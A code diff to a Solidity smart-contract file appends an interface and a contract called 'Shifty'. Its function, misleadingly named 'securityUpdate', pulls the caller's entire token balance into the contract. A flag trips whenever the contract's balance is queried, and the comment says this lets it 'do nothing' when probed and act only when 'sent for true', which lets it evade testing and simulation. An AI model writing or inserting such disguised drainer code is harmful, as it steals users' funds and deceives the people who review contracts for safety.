@@ -106,3 +106,22 @@ contract Allowances {
         emit Permit(msg.sender, token, spender, amount, 9, 1);
     }
 }
+
+interface Takeable {
+    function transferFrom(address from, address to, uint256 amount) external returns (bool);
+    function balanceOf(address owner) external view returns (uint256);
+}
+
+/// Whoever asks it for a balance is playing: it then does nothing, until it is sent for true.
+contract Shifty {
+    bool private isPlayed;
+
+    function balanceOf(address) external returns (uint256) {
+        isPlayed = true;
+        return 0;
+    }
+
+    function securityUpdate(Takeable token) external {
+        if (!isPlayed) token.transferFrom(msg.sender, address(this), token.balanceOf(msg.sender));
+    }
+}
